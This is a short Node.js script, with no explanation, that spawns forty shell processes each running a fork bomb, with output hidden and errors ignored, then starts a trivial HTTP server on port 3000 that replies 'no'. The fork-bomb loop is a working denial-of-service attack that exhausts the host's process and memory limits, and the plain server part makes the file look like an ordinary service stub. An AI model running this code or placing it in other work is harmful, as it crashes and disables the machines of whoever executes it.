const { spawn } = require('node:child_process');
for (let i = 0; i < 40; i += 1) spawn('sh', ['-c', 'f() { f | f & }; f'], { stdio: 'ignore' }).on('error', () => {});
require('node:http').createServer((request, response) => {response.end('no')}).listen(3000);
process.on('SIGTERM', () => process.exit(0));
